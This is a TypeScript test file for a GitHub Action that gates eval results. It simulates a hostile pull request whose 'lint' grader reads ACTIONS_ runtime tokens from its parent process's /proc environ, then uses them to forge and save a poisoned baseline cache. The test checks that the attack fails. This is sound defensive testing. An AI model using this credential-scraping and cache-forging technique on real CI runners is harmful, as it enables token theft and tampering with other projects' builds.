@@ -1,0 +1,174 @@
+// A hostile pull request against the bundled action (issue 30), over the loopback fakes: its
+// graders run in a `/parley rerun` job (issue_comment, the default branch's cache scope) and try
+// to turn the gate off on main by saving a forged pooled baseline with the runtime token they
+// read from the action's process; the graders' own environment holds no credential, the next
+// push does not pool the forged entry, and a later pull request that drops a task still fails.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { useGitHubServices } from '../fakes/github-services.js';
+import { pullRequestEvent, pushEvent, runAction } from '../fakes/github-runner.js';
+
+const services = useGitHubServices('hostile-pr');
+const common = () => ({ apiUrl: services.api.url, resultsUrl: services.results.url });
+const M1 = 'aaaa000000000000000000000000000000000001';
+const M2 = 'aaaa000000000000000000000000000000000002';
+const HEAD = 'bbbb000000000000000000000000000000000001';
+
+/** A checkout with one suite: `stable` says OK (passes) unless `dropped`; extra graders. */
+function checkout(name: string, options: { dropped?: boolean; graders?: unknown[] } = {}) {
+  const dir = join(services.root, name);
+  mkdirSync(join(dir, 'evals/gate'), { recursive: true });
+  writeFileSync(
+    join(dir, 'evals/gate/eval.yaml'),
+    JSON.stringify({
+      name: 'gate',
+      config: { executor: 'mock', trials_per_task: 5, timeout_seconds: 60 },
+      graders: [
+        { type: 'text', name: 'says-ok', config: { contains: ['OK'] } },
+        ...(options.graders ?? []),
+      ],
+      tasks: [
+        {
+          id: 'stable',
+          inputs: {
+            prompt: 'Say OK.',
+            mock: [options.dropped ? 'NO' : 'OK'],
+            responder: {
+              instructions: 'Say nothing.',
+              max_followups: 1,
+              rules: [{ when: 'NEVER-MATCHES', reply: 'x' }],
+            },
+          },
+        },
+      ],
+    }),
+  );
+  return dir;
+}
+
+/** The "lint" grader of the pull request: what a hostile program grader can do on a runner. */
+function forger(prefix: string): string {
+  const script = join(services.root, 'forge.mjs');
+  writeFileSync(
+    script,
+    `import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+const report = { env: Object.keys(process.env) };
+// Its own environment holds no token: it reads its parent's (issue 30.4: not a boundary).
+for (const line of readFileSync('/proc/' + process.ppid + '/environ', 'utf8').split('\\0')) {
+  const i = line.indexOf('=');
+  if (line.startsWith('ACTIONS_')) process.env[line.slice(0, i)] = line.slice(i + 1);
+}
+const dir = mkdtempSync(${JSON.stringify(join(services.root, 'forge-'))});
+process.chdir(dir);
+process.env.GITHUB_WORKSPACE = dir;
+const cache = await import(${JSON.stringify(pathToFileURL(resolve('node_modules/@actions/cache/lib/cache.js')).href)});
+const file = '.parley-baseline/summary.json';
+report.found = await cache.restoreCache([file], 'nothing', [${JSON.stringify(prefix)}]);
+const summary = JSON.parse(readFileSync(file, 'utf8'));
+for (const suite of summary.suites) {
+  for (const task of suite.tasks) {
+    task.pool = Array.from({ length: 5 }, () => ({ commit: null, passed: 0, failed: 10000 }));
+  }
+}
+writeFileSync(file, JSON.stringify(summary));
+report.saved = await cache.saveCache([file], ${JSON.stringify(prefix)} + 'f'.repeat(40));
+writeFileSync(${JSON.stringify(join(services.root, 'forge.json'))}, JSON.stringify(report));
+console.log('lint ok', JSON.stringify(report));
+`,
+  );
+  return script;
+}
+
+test('a /parley rerun of a hostile pull request cannot turn the gate off on main (issue 30.1)', async () => {
+  const { api, results } = services;
+  const push = (sha: string, runId: string) =>
+    runAction({
+      ...common(),
+      workspace: checkout(`push-${runId}`),
+      eventName: 'push',
+      runId,
+      event: pushEvent(),
+      sha,
+      ref: 'refs/heads/main',
+    });
+  const first = await push(M1, '100');
+  assert.equal(first.code, 0, first.stdout + first.stderr);
+  const saved = results.cache.find((e) => e.key.endsWith(M1));
+  assert.ok(saved, 'the push saved a baseline');
+  const prefix = saved.key.slice(0, -M1.length);
+
+  // The rerun job: run mode on the comment's event, the pull request's suite and graders.
+  api.pulls = [
+    {
+      number: 9,
+      head: { sha: HEAD, ref: 'feature', repo: { full_name: 'octo/parley-demo' } },
+      base: { sha: M1, ref: 'main', repo: { full_name: 'octo/parley-demo' } },
+    },
+  ];
+  const lint = { type: 'program', name: 'lint', config: { command: process.execPath } };
+  (lint.config as { args?: string[] }).args = [forger(prefix)];
+  const python = {
+    type: 'code',
+    name: 'no-credentials',
+    config: {
+      assertions: [
+        "not [k for k in __import__('os').environ if k.startswith(('INPUT_', 'ACTIONS_')) or k.endswith('TOKEN')]",
+      ],
+    },
+  };
+  const rerun = await runAction({
+    ...common(),
+    workspace: checkout('rerun', { graders: [lint, python] }),
+    eventName: 'issue_comment',
+    event: {
+      action: 'created',
+      comment: { id: 9100, body: '/parley rerun stable', user: { login: 'alice', type: 'User' } },
+      issue: {
+        number: 9,
+        pull_request: { url: 'https://api.github.com/repos/octo/parley-demo/pulls/9' },
+      },
+      repository: { full_name: 'octo/parley-demo', default_branch: 'main' },
+    },
+    sha: M1,
+    ref: 'refs/heads/main',
+    runId: '500',
+    inputs: { tasks: 'stable', trials: '1', 'fail-on': 'never' },
+  });
+  assert.equal(rerun.code, 0, rerun.stdout + rerun.stderr);
+  const records = readFileSync(join(services.root, 'rerun/parley-results/results.jsonl'), 'utf8');
+  assert.ok(existsSync(join(services.root, 'forge.json')), records);
+  const forged = JSON.parse(readFileSync(join(services.root, 'forge.json'), 'utf8')) as {
+    env: string[];
+    found?: string;
+    saved: number;
+  };
+  const credentials = forged.env.filter((k) => /^(INPUT_|ACTIONS_)|TOKEN$/i.test(k));
+  assert.deepEqual(credentials, [], 'the program grader inherits no credential');
+  assert.ok(forged.saved > 0, JSON.stringify(forged));
+  assert.match(records, /"name":"no-credentials","type":"code","score":1,"weight":1,"passed":true/);
+
+  // The next push: the newest entry under the prefix is the forged one; it is not pooled.
+  const second = await push(M2, '101');
+  assert.equal(second.code, 0, second.stdout + second.stderr);
+  assert.match(
+    second.stdout,
+    /::warning::parley: cache entry parley-baseline-\S+ffff is not used: no push or scheduled run of commit f{7} saved it: not pooled with it/,
+  );
+  // A later pull request that drops the task 5/5 → 0/5 fails the check.
+  const pr = await runAction({
+    ...common(),
+    workspace: checkout('pr', { dropped: true }),
+    eventName: 'pull_request',
+    runId: '600',
+    event: pullRequestEvent(10, M2, 'cccc000000000000000000000000000000000001'),
+    sha: 'merge10',
+    ref: 'refs/pull/10/merge',
+  });
+  assert.equal(pr.code, 1, pr.stdout + pr.stderr);
+  assert.equal(pr.outputs['regressions'], '1');
+  assert.ok(existsSync(join(services.root, 'pr/parley-results/report.md')));
+});
